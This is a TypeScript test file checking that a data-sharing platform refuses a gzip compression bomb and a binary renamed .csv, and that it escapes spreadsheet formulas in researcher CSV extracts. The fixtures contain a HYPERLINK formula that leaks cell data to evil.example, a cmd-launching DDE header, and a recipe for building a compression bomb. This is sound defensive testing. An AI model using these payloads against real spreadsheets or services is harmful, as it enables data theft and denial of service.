import { gzipSync } from "node:zlib";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { parseUnits } from "ethers";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { getEnv } from "~/env";
import { createExtract } from "~/server/services/extracts/create-extract";
import { getExtractFile } from "~/server/services/extracts/get-extract-file";
import type { SessionUser } from "~/server/session";
import { createHarness, listingInput, type Harness } from "./harness";
import { runVerify, verifySummary } from "./verify-cli";

/** Hostile files: compressed bombs, binaries named .csv, and formulas aimed at spreadsheets. */
let harness: Harness;
let participant: SessionUser;
let work: string;

beforeAll(async () => {
  harness = await createHarness();
  participant = await harness.createUser("PARTICIPANT");
  work = await mkdtemp(path.join(tmpdir(), "upload-attacks-"));
});

afterAll(async () => {
  await harness.close();
  await rm(work, { recursive: true, force: true });
});

async function refused(file: Buffer, fileName: string): Promise<string> {
  const uploadsBefore = await harness.db.upload.count();
  const error = await harness.upload(participant, file, fileName).then(
    () => null,
    (caught: unknown) => caught as Error,
  );
  expect(await harness.db.upload.count()).toBe(uploadsBefore);
  return error?.message ?? "accepted";
}

describe("hostile uploads", () => {
  it("refuses a compressed bomb without inflating it, and a binary named .csv", async () => {
    // 4 GB of zeros in about 4 MB (64 gzip members of 64 MB each): refused from its first bytes,
    // never decompressed. Inflated in memory it would take gigabytes; the margin below is wide
    // enough for the garbage collector's own swings on a busy machine.
    const member = gzipSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 });
    const bomb = Buffer.concat(Array.from({ length: 64 }, () => member));
    expect(bomb.length).toBeLessThan(8 * 1024 * 1024);
    const memoryBefore = process.memoryUsage().rss;
    expect(await refused(bomb, "measurements.csv")).toMatch(/binary file|not UTF-8/);
    expect(process.memoryUsage().rss - memoryBefore).toBeLessThan(1024 * 1024 * 1024);
    const png = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
      Buffer.from("IHDR"),
    ]);
    expect(await refused(png, "vitals.csv")).toMatch(/binary file/);
  });

  it("escapes formulas in the researcher's extract, header row included, and the verifier still matches it", async () => {
    const rows = Array.from(
      { length: 6 },
      (_, index) =>
        `P${index},2022,=HYPERLINK("https://evil.example/?"&A1;"open"),-${index + 1},${index % 2},x`,
    );
    // Column names are the participant's to choose, and reach the researcher's spreadsheet.
    const upload = await harness.upload(
      participant,
      ['pseudonym,year,site,delta,"@SUM(1+1)","+cmd|\' /C calc\'!A0"', ...rows].join("\n"),
    );
    const { id: listingId } = await harness
      .callerFor(participant)
      .listings.createDraft(listingInput(upload.id, { price: "1" }));
    await harness.act(participant, { type: "listing.publish", listingId });
    const researcher = await harness.createUser("RESEARCHER");
    await harness.mintTokens(researcher.walletAddress, parseUnits("10", 18));
    await harness.settle();
    const { id: requestId } = await harness.callerFor(researcher).requests.createDraft({
      listingIds: [listingId],
      purpose: "ACADEMIC_RESEARCH",
      planText: "Site effects on blood pressure, pooled.",
      accessDays: 30,
    });
    await harness.act(researcher, { type: "request.create", requestId });
    await harness.settle();
    const { db, chain } = harness;
    const extract = await createExtract({
      db,
      chain,
      researcherId: researcher.id,
      requestId,
      k: 2,
    });
    await harness.settle();
    const file = (name: "csv" | "manifest") =>
      getExtractFile({ db, chain, researcherId: researcher.id, extractId: extract.id, file: name });
    const csv = (await file("csv")).body.toString("utf8");
    const [header, ...body] = Papa.parse<string[]>(csv.trim()).data;
    expect(header).toEqual(expect.arrayContaining(["'@SUM(1+1)", "'+cmd|' /C calc'!A0"]));
    const cells = [...header!, ...body.flat()];
    expect(cells.some((cell) => cell.startsWith(`'=HYPERLINK`))).toBe(true);
    expect(cells.filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
    expect(cells).toContain("-1");

    const manifestFile = path.join(work, "manifest.json");
    const csvFile = path.join(work, "extract.csv");
    await writeFile(manifestFile, (await file("manifest")).body);
    await writeFile(csvFile, csv);
    const verified = await runVerify([
      "extract",
      manifestFile,
      "--csv",
      csvFile,
      "--rpc",
      getEnv().CHAIN_RPC_URL,
    ]);
    expect(verified.code).toBe(0);
    expect(verifySummary(verified.stdout)).toMatchObject({ csvRootMatches: true });
  });
});
